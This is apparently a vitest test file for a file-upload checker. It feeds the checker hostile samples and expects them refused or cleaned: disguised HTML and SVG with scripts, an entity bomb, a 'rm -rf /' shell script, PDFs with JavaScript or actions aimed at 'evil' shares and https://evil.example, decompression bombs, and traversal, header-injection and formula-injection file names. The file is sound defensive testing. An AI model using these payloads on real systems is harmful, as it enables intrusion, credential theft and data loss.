import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { addressesByThemselves, addressesBehindClicks } from './addresses.sample';
import { attachment } from './attachment';
import { chunk, pdf, photo, picture, rawPdf, setAction, stream } from './corpus.sample';
import { inPlace } from './in-place';
import { judge } from './judge';

/** Stands in everything a file carries beside what it shows; must not be in what is kept. */
const PAYLOAD = 'PAYLOAD-of-Mallory';

type Make = () => Promise<Buffer> | Buffer;
const text =
	(content: string): Make =>
	() =>
		Buffer.from(content);
const bytes =
	(head: readonly number[]): Make =>
	() =>
		Buffer.concat([Buffer.from(head), Buffer.alloc(600, 0x41)]);

/** Not what a group hands in; the name says it is. */
const disguised: readonly (readonly [what: string, name: string, make: Make])[] = [
	['HTML behind a byte order mark', 'x.jpg', text('\uFEFF<html><script>1</script>')],
	['HTML in UTF-16', 'x.pdf', () => Buffer.from('\uFEFF<html><script>1</script>', 'utf16le')],
	['XHTML', 'x.png', text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>')],
	[
		'a drawing that says nothing of a script',
		'x.png',
		text('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>')
	],
	['a drawing behind a comment', 'x.jpg', text(`<!-- ${'x'.repeat(5000)} --><svg onload="x()"/>`)],
	[
		'a drawing with an entity bomb',
		'x.svg',
		text('<!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>')
	],
	[
		'a web archive',
		'x.pdf',
		text('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x')
	],
	['a mail', 'x.pdf', text('From: a@b\r\nSubject: x\r\n\r\nx')],
	['rich text', 'x.pdf', text('{\\rtf1\\ansi {\\object\\objdata 0105}}')],
	['PostScript', 'x.pdf', text('%!PS-Adobe-3.0\n(x) run')],
	['a shell script', 'x.pdf', text('#!/bin/sh\nrm -rf /')],
	['a program for Windows', 'Satzung.pdf', bytes([0x4d, 0x5a, 0x90, 0])],
	['a program for Linux', 'Satzung.pdf', bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])],
	['a shortcut of Windows', 'Satzung.pdf', bytes([0x4c, 0, 0, 0, 1, 0x14, 2, 0])],
	['an old Office document', 'Satzung.pdf', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
	['a packed file', 'x.jpg', bytes([0x1f, 0x8b, 8, 0])],
	['an archive of another kind', 'x.jpg', bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])],
	['a bitmap', 'x.jpg', bytes([0x42, 0x4d, 0x36, 0, 0, 0])],
	['an icon', 'x.png', bytes([0, 0, 1, 0, 1, 0])],
	[
		'a TIFF',
		'x.jpg',
		() =>
			sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
				.tiff()
				.toBuffer()
	],
	[
		'an AVIF',
		'x.heic',
		() =>
			sharp({ create: { width: 16, height: 16, channels: 3, background: 'red' } })
				.avif()
				.toBuffer()
	],
	[
		'a film',
		'x.heic',
		() =>
			Buffer.concat([
				Buffer.from([0, 0, 0, 0x18]),
				Buffer.from('ftypmp42\0\0\0\0mp42isom'),
				Buffer.alloc(300)
			])
	],
	['a font', 'x.pdf', bytes([0x77, 0x4f, 0x46, 0x32])],
	[
		'a PDF behind a page of HTML',
		'x.pdf',
		async () => Buffer.concat([Buffer.from('<html><script>1</script>\n'), await pdf()])
	],
	['one byte', 'x.pdf', () => Buffer.from('%')],
	['only a beginning', 'x.pdf', () => Buffer.from('%PDF-1.7')],
	['only zeros', 'x.jpg', () => Buffer.alloc(5000)]
];

const acting: readonly (readonly [what: string, make: Make])[] = [
	[
		'runs a script when a page is opened',
		() => rawPdf('<< /Type /Page /AA << /O << /S /JavaScript /JS (x) >> >> >>')
	],
	['runs a script of a field', () => rawPdf('<< /FT /Tx /AA << /K << /S /JavaScript /JS (x) >> >> >>')],
	['runs a script of a rendition', () => rawPdf('<< /S /Rendition /JS (x) >>')],
	[
		'opens another file, and with it a share that learns the password of whoever reads',
		() => rawPdf('<< /AA << /O << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >> >> >>')
	],
	['opens a file it carries', () => rawPdf('<< /S /GoToE /F (x) >>')],
	['starts a program under another spelling', () => rawPdf('<< /S /L#61unch /F (cmd.exe) >>')],
	['carries a film', () => rawPdf('<< /Subtype /RichMedia >>')],
	['jumps to an article of another file', () => rawPdf('<< /S /Thread /F (\\\\\\\\evil\\\\share) /D 0 >>')],
	['plays a film', () => rawPdf('<< /S /Movie /T (x) >>')],
	['plays a sound', () => rawPdf('<< /AA << /O << /S /Sound /Sound 9 0 R >> >> >>')],
	['turns a model in space', () => rawPdf('<< /S /GoTo3DView /TA 9 0 R /V 0 >>')],
	['runs a script of a model in space', () => rawPdf('<< /Type /3D /OnInstantiate 9 0 R >>')],
	['commands a film', () => rawPdf('<< /S /RichMediaExecute /TA 9 0 R >>')],
	...[
		['at an address', '/F << /FS /URL /F (https://evil.example/x) >>'],
		['in a file', '/F (\\\\\\\\evil\\\\share\\\\x)'],
		['in a file named in hexadecimals', '/F <5c5c6576696c>'],
		['where another object says', '/Length 0 /#46 9 0 R'],
		['elsewhere, behind a comment', '/F % /Fl\n(x)'],
		['elsewhere, behind other dictionaries', '/Resources << /Font << /F 9 0 R >> >> /F (x)'],
		['elsewhere, packed', '/FFilter /FlateDecode'],
		['on a page of another file', '/Type /XObject /Subtype /Form /Ref << /F (x) /Page 0 >>']
	].map(([where, said]): (typeof acting)[number] => [
		`shows what lies ${where}`,
		() => rawPdf(stream(String(said), Buffer.alloc(0)))
	]),
	['takes data from elsewhere', () => rawPdf('<< /S /ImportData /F (x) >>')],
	[
		'is a form of another language under another spelling',
		() => rawPdf('<< /AcroForm << /X#46A [ (x) 4 0 R ] >> >>')
	],
	[
		'is a form of another language in packed objects',
		() =>
			rawPdf(
				stream(
					'/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
					deflateSync(Buffer.from('9 0 << /XFA 4 0 R >>'))
				)
			)
	],
	['carries a file that does not say what it is', () => rawPdf('<< /Type /Filespec /E#46 << /F 9 0 R >> >>')],
	[
		'shifts its packed objects',
		() =>
			rawPdf(
				stream(
					'/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 4 >>',
					deflateSync(Buffer.from('x'))
				)
			)
	],
	[
		'packs objects another way, said in short',
		() => rawPdf(stream('/N 1 /First 4 /Filter /AHx', Buffer.from('00>')))
	],
	...[
		['in a string', '/X (9 0 obj <<)'],
		['in a string with brackets', '/X (\\) ( \\( 9 0 obj << ) >> stream )'],
		['in a comment', '% 9 0 obj <<\n'],
		['in a comment that hides a bracket', '% (\n/X (9 0 obj)'],
		['in a name', '/X#20obj 1'],
		['behind a name with a bracket', '/X#28 (9 0 obj) /Y#29 1'],
		['of hexadecimals', '/X [ <3c> (9 0 obj ]) ]'],
		['far away', ' '.repeat(70_000)]
	].map(([where, forged]): (typeof acting)[number] => [
		`packs objects another way, with a forged beginning ${where}`,
		() => rawPdf(stream(`/N 1 /First 4 /Filter /AHx ${forged}`, Buffer.from('00>')))
	]),
	[
		'has more beginnings than anybody reads',
		() => rawPdf(`<< /X ${'obj<<'.repeat(50_000)} >>`, stream('/N 1 /First 4', Buffer.from('00>')))
	],
	[
		'carries a file in packed objects',
		() =>
			rawPdf(
				stream(
					'/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
					deflateSync(Buffer.from('9 0 << /Type /EmbeddedFile >>'))
				)
			)
	],
	[
		'packs its packed objects once more',
		() =>
			rawPdf(
				stream(
					'/Type /ObjStm /N 1 /First 4 /Filter [ /FlateDecode /LZWDecode ]',
					deflateSync(Buffer.from('x'))
				)
			)
	],
	[
		'acts, and says so only behind its end',
		async () =>
			Buffer.concat([
				await pdf(),
				Buffer.from('\n9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\nstartxref\n9\n%%EOF\n')
			])
	],
	[
		'sends what is typed to an address',
		() => pdf((document) => setAction(document, { S: '/SubmitForm', F: 'https://evil.example' }))
	]
];

/** Harmless to look at, with something beside what it shows: kept without it. */
const carrying: readonly (readonly [what: string, name: string, make: Make])[] = [
	[
		'a photo with words behind its end',
		'x.jpg',
		async () => Buffer.concat([await photo(), Buffer.from(PAYLOAD)])
	],
	[
		'a PNG with words behind its end',
		'x.png',
		async () => Buffer.concat([await picture('png'), Buffer.from(PAYLOAD)])
	],
	['a photo with a comment', 'x.jpg', async () => inJpeg(await photo(), 0xfe, PAYLOAD)],
	[
		'a photo with a description in XMP',
		'x.jpg',
		async () => inJpeg(await photo(), 0xe1, `http://ns.adobe.com/xap/1.0/\0<x>${PAYLOAD}</x>`)
	],
	[
		'a photo with a profile that is none',
		'x.jpg',
		async () => inJpeg(await photo(), 0xe2, `ICC_PROFILE\0\x01\x01${PAYLOAD}`)
	],
	[
		'a PNG with words',
		'x.png',
		async () => inPng(await picture('png'), 'tEXt', Buffer.from(`Comment\0${PAYLOAD}`))
	],
	[
		'a PNG with a chunk of its own',
		'x.png',
		async () => inPng(await picture('png'), 'evIl', Buffer.from(PAYLOAD))
	],
	[
		'a PNG with a bomb in its words',
		'x.png',
		async () =>
			inPng(
				await picture('png'),
				'zTXt',
				Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(50_000_000))])
			)
	],
	[
		'a photo with HTML of two bytes a letter',
		'x.jpg',
		async () => Buffer.concat([await photo(), Buffer.from(`<script>${PAYLOAD}`, 'utf16le')])
	]
];

/** A segment after the first two bytes, where cameras put theirs. */
function inJpeg(jpeg: Buffer, marker: number, content: string): Buffer {
	const body = Buffer.from(content, 'latin1');
	const head = Buffer.from([0xff, marker, 0, 0]);
	head.writeUInt16BE(body.length + 2, 2);
	return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

const PNG_HEAD_BYTES = 33;
const inPng = (png: Buffer, type: string, data: Buffer) =>
	Buffer.concat([png.subarray(0, PNG_HEAD_BYTES), chunk(type, data), png.subarray(PNG_HEAD_BYTES)]);

const names = [
	'../../../etc/passwd.pdf',
	'..\\..\\windows\\system32\\x.pdf',
	'/absolute.pdf',
	'Satzung\u202efdp.exe.pdf',
	'Satzung\u2066\u2069.pdf',
	'null\u0000byte.pdf',
	'line\r\nSet-Cookie: a=b.pdf',
	'"; filename=evil.exe; x=".pdf',
	`${'ß'.repeat(300)}.pdf`,
	'.pdf',
	'   .pdf',
	'CON.pdf',
	'%2e%2e%2fx.pdf',
	'<img src=x onerror=alert(1)>.pdf',
	'=HYPERLINK("https://evil.example").pdf',
	'lone \ud800 surrogate.pdf'
];

describe('hostile files', () => {
	it.each(disguised)('%s is refused as %s', async (_, name, make) => {
		expect((await judge(await make(), name)).fault).not.toBeNull();
	});

	it.each(acting)('a PDF that %s is refused', async (_, make) => {
		expect((await judge(await make(), 'x.pdf')).fault).toBe('file_hostile');
	});

	it.each(addressesByThemselves)('a PDF that opens an address %s is refused', async (_, make) => {
		expect((await judge(make(), 'x.pdf')).fault).toBe('file_hostile');
	});

	it.each(addressesBehindClicks)('a PDF with an address %s is kept', async (_, make) => {
		expect((await judge(make(), 'x.pdf')).fault).toBeNull();
	});

	it('a PDF of blanks alone holds nobody up', async () => {
		const opened = rawPdf('<< /OpenAction 4 0 R /URI << >> >>', `${'\n'.repeat(2_000_000)}x`);
		expect((await judge(opened, 'x.pdf')).fault).toBeNull();
	});

	it.each(carrying)('%s is refused or kept without it', async (_, name, make) => {
		const before = await make();
		const verdict = await judge(before, name);
		if (verdict.fault !== null) return;
		const after = Buffer.from(verdict.bytes);
		expect(after.includes(PAYLOAD)).toBe(false);
		expect(after.includes(Buffer.from(PAYLOAD, 'utf16le'))).toBe(false);
		expect(after.length).toBeLessThan(100_000);
	});

	it.each(names.map((name) => [name]))(
		'the name %j is kept as one plain name, and breaks no header',
		async (name) => {
			const verdict = await judge(await pdf(), name);
			if (verdict.fault !== null) throw new Error(verdict.fault);
			expect(verdict.name).not.toMatch(/[/\\\p{Cc}\p{Cf}\p{Cs}"<>]/u);
			expect(verdict.name).not.toMatch(/^\.|\.\./);
			expect([...verdict.name].length).toBeLessThanOrEqual(120);
			expect(verdict.name.endsWith('.pdf')).toBe(true);
			const { headers } = attachment({ ...verdict, bytes: new Uint8Array(verdict.bytes) });
			expect(headers.get('content-disposition')).toMatch(
				/^attachment; filename="[^"\\\r\n]*"; filename\*=UTF-8''[\w%.~!#$&+^`|-]*$/
			);
		}
	);

	it('leave the house as something to save or in a sandbox, whatever they are', () => {
		const file = { name: 'x.html', mediaType: 'text/html', bytes: new Uint8Array([1]) };
		const saved = attachment(file).headers;
		expect(saved.get('content-disposition')).toMatch(/^attachment/);
		expect(saved.get('content-security-policy')).toMatch(/sandbox/);
		expect(saved.get('x-content-type-options')).toBe('nosniff');
		expect(inPlace(file)).toBeNull();
		expect(inPlace({ ...file, mediaType: 'image/svg+xml' })).toBeNull();
		const shown = inPlace({ ...file, mediaType: 'application/pdf' })?.headers;
		expect(shown?.get('content-security-policy')).toMatch(/default-src 'none'; sandbox/);
		expect(shown?.get('cache-control')).toBe('no-store');
	});
});
